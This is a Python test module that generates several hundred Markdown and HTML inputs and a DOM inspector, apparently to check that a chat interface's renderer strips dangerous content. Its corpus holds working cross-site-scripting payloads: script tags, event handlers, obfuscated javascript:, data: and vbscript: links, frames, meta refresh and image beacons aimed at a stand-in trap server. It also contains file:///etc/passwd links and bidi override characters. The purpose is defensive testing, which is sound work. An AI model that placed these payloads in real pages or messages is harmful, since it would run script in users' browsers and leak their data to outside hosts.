"""Markdown that somebody wishes would run, load or mislead, and how to tell that it did not.

`{trap}` becomes the address of a server that nobody may call.
"""

from __future__ import annotations

from typing import Final

CORPUS: Final[dict[str, str]] = {
    "script": "zebra <script>window.fooled = 1; alert(1)</script> crossing",
    "script from elsewhere": 'zebra <script src="{trap}/s.js"></script> crossing',
    "handler": "zebra <img src=x onerror=\"fetch('{trap}/e')\"> crossing",
    "drawing": 'zebra <svg onload="window.fooled = 1"><use href="{trap}/u#x"/></svg> crossing',
    "frame": 'zebra <iframe src="{trap}/f"></iframe><object data="{trap}/o"></object> crossing',
    "style": 'zebra <style>@import "{trap}/c";</style><link rel=stylesheet href="{trap}/l">',
    "refresh": 'zebra <meta http-equiv=refresh content="0;url={trap}/m"><base href="{trap}/">',
    "form": 'zebra <form action="{trap}/p"><input autofocus onfocus="window.fooled = 1"></form>',
    "image": "zebra ![crossing]({trap}/i.png) and ![][one] crossing\n\n[one]: {trap}/r.png",
    "javascript link": "zebra [crossing](javascript:window.fooled=1) and <javascript:alert(1)>",
    "disguised links": (
        "zebra [one](JaVaScRiPt:alert(1)) [two](\x01javascript:alert(2)) "
        "[three](java\tscript:alert(3)) [four](&#106;avascript:alert(4)) "
        "[five](data:text/html,<script>alert(5)</script>) [six](vbscript:alert(6)) "
        "[seven](file:///etc/passwd) [eight](blob:{trap}/x) [nine](//elsewhere.example/x)"
    ),
    "breaking out": 'zebra [crossing](<{trap}/" onfocus="alert(1)>) \'"><b onclick=alert(1)>x</b>',
    "deep quotes": ">" * 900 + " zebra crossing",
    "deep lists": "".join(f"{'  ' * depth}- zebra\n" for depth in range(40)),
    "deep brackets": "[" * 700 + "zebra crossing" + "](x)" * 300,
    "endless emphasis": "*_" * 800 + " zebra crossing",
    "overrides": "zebra \u202egnorw\u202c \u2066[safe\u202e](https://example.com/)\u2069 \u200fend",
    "control characters": "zebra \x00\x08\x0b\x1b[31m crossing \ufeff\ufffe",
    "lone surrogate escape": "zebra &#xD800; &#0; &#x110000; crossing",
}
"""By what it tries. Every text has words, so that a model that repeats it is believed."""

DESTINATIONS: Final = (
    "javascript:window.fooled=1",
    "JaVaScRiPt:window.fooled=1",
    "javascript&colon;window.fooled=1",
    "&#106;avascript:window.fooled=1",
    "&#x6A&#x61;vascript:window.fooled=1",
    "java&#10;script:window.fooled=1",
    "java%0ascript:window.fooled=1",
    "\\javascript:window.fooled=1",
    "javascript://{trap}/%0awindow.fooled=1",
    "data:text/html,<script>window.fooled=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZm9vbGVkPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=window.fooled=1>",
    "vbscript:window.fooled=1",
    "file:///etc/passwd",
    "blob:{trap}/0b5f",
    "filesystem:{trap}/temporary/x",
    "view-source:{trap}/v",
    "about:blank#x",
    "//elsewhere.example/x",
    "\\\\elsewhere.example\\x",
    "/relative",
    "?query",
    "#fragment",
    "ws://elsewhere.example/",
    "ms-settings:privacy",
)
"""Where no link of ours may lead."""
LINKS: Final = (
    "zebra [crossing]({to}) end",
    "zebra [crossing](<{to}>) end",
    'zebra [crossing]({to} "title\' onmouseover=window.fooled=1") end',
    "zebra <{to}> crossing",
    "zebra [crossing][there]\n\n[there]: {to}",
    "- zebra\n- [**crossing**]({to})",
    "> zebra [`crossing`]({to})",
    "zebra ![crossing]({to}) end",
)
ELEMENTS: Final = (
    "<script>window.fooled=1</script>",
    "<script src={trap}/s.js></script>",
    "<scr<script>ipt>window.fooled=1</scr</script>ipt>",
    "<SCRIPT/X SRC={trap}/s></SCRIPT>",
    "<img src=x onerror=window.fooled=1>",
    "<img src={trap}/i.png srcset='{trap}/j.png 2x'>",
    '<img """><script>window.fooled=1</script>">',
    "<svg onload=window.fooled=1>",
    "<svg><animate onbegin=window.fooled=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.fooled=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.fooled=1>",
    "<iframe src={trap}/f></iframe>",
    "<iframe srcdoc='<script>parent.fooled=1</script>'></iframe>",
    "<object data={trap}/o></object><embed src={trap}/e>",
    "<link rel=stylesheet href={trap}/l><link rel=prefetch href={trap}/p>",
    "<style>@import '{trap}/c';body{background:url({trap}/b)}</style>",
    "<meta http-equiv=refresh content='0;url={trap}/m'>",
    "<base href={trap}/>",
    "<form action={trap}/p><input autofocus onfocus=window.fooled=1></form>",
    "<details open ontoggle=window.fooled=1>x</details>",
    "<video src={trap}/v autoplay onloadstart=window.fooled=1></video>",
    "<audio src={trap}/a autoplay></audio>",
    "<body onload=window.fooled=1>",
    "<a href=javascript:window.fooled=1>crossing</a>",
    "<a href={trap}/k ping={trap}/ping>crossing</a>",
    "<div style='position:fixed;inset:0;background:url({trap}/d)'>x</div>",
    "<x onpointerenter=window.fooled=1 style=display:block>x</x>",
    "<template><img src={trap}/t></template><slot name=x></slot>",
    "<!--><img src=x onerror=window.fooled=1>-->",
    "<![CDATA[<script>window.fooled=1</script>]]>",
)
"""HTML that has no place in a message."""
PLACES: Final = (
    "zebra {it} crossing",
    "{it}\n\nzebra crossing",
    "zebra\n{it}\ncrossing",
    "- zebra\n\n  {it}",
    "> zebra {it}",
    "# zebra {it}",
    "zebra **{it}** *crossing*",
    "zebra [{it}](https://example.com/) crossing",
)
PICTURES: Final = (
    "![zebra]({trap}/i.png)",
    "![zebra](<{trap}/i.png> 'crossing')",
    "![zebra][one]\n\n[one]: {trap}/r.png",
    "![][one]\n\n[one]: {trap}/r.png",
    "[![zebra]({trap}/i.png)]({trap}/page)",
    "![![zebra]({trap}/i.png)]({trap}/o.png)",
    "![zebra](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![zebra](//elsewhere.example/i.png)",
    "![zebra]({trap}/i.png){width=1 onerror=window.fooled=1}",
    "![zebra]({trap}/i.png?q=secret#x)",
)
CLOSED: Final = PLACES[:6]


def many() -> list[str]:
    """500 texts: each destination in each kind of link, each element and picture in each place."""
    linked = [link.replace("{to}", to) for to in DESTINATIONS for link in LINKS]
    placed = [place.replace("{it}", it) for it in ELEMENTS for place in PLACES]
    pictured = [place.replace("{it}", it) for it in PICTURES for place in CLOSED]
    return [*linked, *placed, *pictured]


INSPECT: Final = """(part) => {
  const allowed = new Set(["A", "B", "BDI", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DIV", "EM", "HR",
    "LI", "OL", "P", "PRE", "SPAN", "STRONG", "UL"]);
  const found = [];
  const depthOf = (node) => node === part ? 0 : 1 + depthOf(node.parentElement);
  for (const node of part.querySelectorAll("*")) {
    if (!allowed.has(node.tagName.toUpperCase())) found.push(node.outerHTML.slice(0, 120));
    if (depthOf(node) > 40) found.push("nested too deep");
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || name === "style") found.push(`${name}=${value}`);
    }
    if (node.tagName === "A") {
      if (!["http:", "https:", "mailto:"].includes(node.protocol)) found.push(node.href);
      if (node.target !== "_blank" || !node.relList.contains("noopener")) found.push("a bare link");
    }
  }
  if (window.fooled !== undefined) found.push("it ran");
  return found;
}"""
"""What is in an element that a visitor must never be shown; nothing, if all is well."""


def corpus(trap: str) -> dict[str, str]:
    """The texts, aimed at this server."""
    return {name: text.replace("{trap}", trap) for name, text in CORPUS.items()}
